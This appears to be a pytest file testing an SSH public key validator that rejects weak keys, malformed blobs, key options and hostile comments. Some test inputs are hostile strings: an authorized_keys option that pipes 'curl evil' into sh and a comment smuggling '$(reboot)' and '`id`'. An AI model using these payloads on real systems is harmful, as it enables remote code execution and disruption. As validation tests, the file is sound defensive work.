"""Public key validation (hub/devhub/ssh_keys.py), shared by the hub and the user image."""

import subprocess

import pytest

from devhub.ssh_keys import InvalidKey, parse_authorized_keys, parse_public_key


def keygen(tmp_path, key_type, bits=None, comment="me@laptop"):
    path = tmp_path / f"k_{key_type}_{bits}"
    cmd = ["ssh-keygen", "-q", "-t", key_type, "-N", "", "-C", comment, "-f", str(path)]
    if bits:
        cmd += ["-b", str(bits)]
    subprocess.run(cmd, check=True)
    return (tmp_path / f"{path.name}.pub").read_text().strip()


@pytest.mark.parametrize("key_type,bits", [("ed25519", None), ("ecdsa", 256), ("ecdsa", 384), ("ecdsa", 521), ("rsa", 3072)])
def test_accepts_strong_keys_and_reserialises(tmp_path, key_type, bits):
    line = keygen(tmp_path, key_type, bits)
    key = parse_public_key("  " + line + "  ")
    assert key.line == line
    fingerprint = subprocess.run(["ssh-keygen", "-l", "-f", "-"], input=line, capture_output=True, text=True, check=True)
    assert key.fingerprint == fingerprint.stdout.split()[1]


def test_refuses_short_rsa_with_reason(tmp_path):
    with pytest.raises(InvalidKey, match="at least 3072 bits"):
        parse_public_key(keygen(tmp_path, "rsa", 2048))


@pytest.mark.parametrize(
    "prefix",
    ['command="curl evil|sh" ', 'from="*" ', "no-pty,permitopen=\"*:*\" ", "restrict "],
)
def test_refuses_options(tmp_path, prefix):
    with pytest.raises(InvalidKey, match="options"):
        parse_public_key(prefix + keygen(tmp_path, "ed25519"))


def test_refuses_second_key_in_one_value(tmp_path):
    first, second = keygen(tmp_path, "ed25519"), keygen(tmp_path, "ecdsa", 256)
    with pytest.raises(InvalidKey, match="second key"):
        parse_public_key(first.rsplit(" ", 1)[0] + " " + second)
    with pytest.raises(InvalidKey, match="line breaks"):
        parse_public_key(first + "\n" + second)


@pytest.mark.parametrize(
    "text,reason",
    [
        ("", "empty"),
        ("ssh-ed25519", "missing"),
        ("ssh-ed25519 not-base64!", "base64"),
        ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA", "not a valid|not valid base64"),
        ("ssh-dss AAAAB3NzaC1kc3MAAACBAP", "DSA"),
        ("ssh-foo AAAA", "unsupported key type"),
        ("ssh-ed25519 AAAA\x00", "control"),
    ],
)
def test_refuses_malformed(text, reason):
    with pytest.raises(InvalidKey, match=reason):
        parse_public_key(text)


def test_refuses_type_that_does_not_match_blob(tmp_path):
    blob = keygen(tmp_path, "ed25519").split()[1]
    with pytest.raises(InvalidKey, match="not a ecdsa-sha2-nistp256 key"):
        parse_public_key(f"ecdsa-sha2-nistp256 {blob}")


def test_refuses_hostile_comment(tmp_path):
    line = keygen(tmp_path, "ed25519").rsplit(" ", 1)[0]
    with pytest.raises(InvalidKey, match="comment"):
        parse_public_key(line + " $(reboot);`id`")


def test_authorized_keys_text_keeps_good_lines_and_reports_bad(tmp_path):
    good, also_good = keygen(tmp_path, "ed25519"), keygen(tmp_path, "ecdsa", 384)
    text = "\n".join(["# a comment", good, 'command="sh" ' + good, "", also_good, good])
    accepted, errors = parse_authorized_keys(text)
    assert [k.line for k in accepted] == [good, also_good]
    assert len(errors) == 1 and errors[0].startswith("line 3:") and "options" in errors[0]
